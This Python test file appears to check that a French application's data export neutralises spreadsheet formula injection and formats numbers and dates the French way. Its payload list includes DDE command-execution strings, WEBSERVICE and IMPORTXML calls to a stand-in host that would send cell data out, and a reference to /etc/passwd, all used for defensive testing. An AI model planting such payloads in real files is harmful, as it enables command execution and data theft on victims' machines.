"""Cells that a spreadsheet cannot run, and numbers that it reads."""

import re
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest

from app.base import Inscription
from app.metier.contrats import Adresse
from app.portabilite.valeurs import cellules, fiche, neutraliser
from tests.personnages import camille
from tests.portabilite.outils import exporter

PARIS = ZoneInfo("Europe/Paris")
CHARGES = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\";\"ici\")", "=WEBSERVICE(\"http://x.example\")",
    "=IMPORTXML(CONCAT(\"http://x\";A1);\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(A1:A9)*cmd|'/C calc'!A0",
    "=-1", "=+1", "=@SUM(1)", "=\"a\"&\"b\"", "='file:///etc/passwd'#$passwd.A1", "+1+1", "+cmd|' /C calc'!A0",
    "+33612345678", "+SUM(1)", "+-1", "++1", "-1+1", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "-SUM(1)", "--1",
    "-1e5", "-1.5", "-", "@SUM(1+1)", "@cmd|' /C calc'!A0", "@", "\t=1+1", "\r=1+1", "\n=1+1", "\t", "\r\n=1+1",
    " =1+1", "\xa0=1+1", "\u2003=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
]  # fmt: skip
INNOCENTES = ["", "DUPONT", "1+1", "a=b", "12, RUE =", "-5", "-87,94", "2024", "'déjà", "59270", "O’Neil", "nom;autre"]
NOMBRE = re.compile(r"-?[0-9]+(,[0-9]+)?")
FORMULES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("charge", CHARGES, ids=repr)
def test_une_formule_devient_un_texte(charge: str) -> None:
    """G100: each payload comes out behind an apostrophe, whole."""
    assert neutraliser(charge) == f"'{charge}"


@pytest.mark.parametrize("texte", INNOCENTES, ids=repr)
def test_ce_qui_n_est_pas_une_formule_reste_tel_quel(texte: str) -> None:
    assert neutraliser(texte) == texte


async def test_quarante_formules_sortent_neutres_de_l_archive(ccfi: Inscription) -> None:
    """G100, in the archive itself: 41 streets read back as a spreadsheet does, then every cell."""
    martin = await camille()
    assert martin.compte is not None
    for charge in CHARGES:
        await Adresse(
            contrat=martin.contrat.id, usage="habitation", valable_du=date(2020, 1, 1), valable_au=date(2021, 1, 1),
            rue=charge, ville=f'{charge}";={charge}',
        ).save()  # fmt: skip
    export = await exporter(martin.compte.id)
    rues = [lue["rue"] for lue in export.tableau("adresse")]
    assert [f"'{charge}" for charge in CHARGES] == rues[2:]
    for nom in export.fichiers:
        if nom.endswith(".csv"):
            for lue in export.tableau(nom[7:-4]):
                actives = [c for c in lue.values() if c.lstrip()[:1] in FORMULES and not NOMBRE.fullmatch(c)]
                assert [c for c in actives if c] == [], nom


def test_les_nombres_et_les_dates_sont_francais() -> None:
    ligne = {
        "montant_centimes": -123456789, "quantite_milliemes": 1500, "taux_tva_centiemes": 550, "paye": True,
        "vide": None,
        "part_dix_milliemes": None, "jour": date(2023, 7, 2), "cree_le": datetime(2023, 7, 2, 22, 30, tzinfo=UTC),
    }  # fmt: skip
    assert cellules(ligne, PARIS) == [
        "-123456789", "-1234567,89", "1500", "1,500", "550", "5,50", "oui", "", "", "", "02/07/2023",
        "03/07/2023 00:30:00",
    ]  # fmt: skip


def test_le_document_garde_les_centimes_et_dit_les_euros() -> None:
    ecrite = fiche({"montant_centimes": 8794, "contenu": '{"a": [1]}', "le": date(2023, 7, 2)}, frozenset({"contenu"}))
    assert ecrite == {
        "montant_centimes": 8794, "montant_euros": "87,94\xa0€", "contenu": {"a": [1]}, "le": "2023-07-02",
    }  # fmt: skip
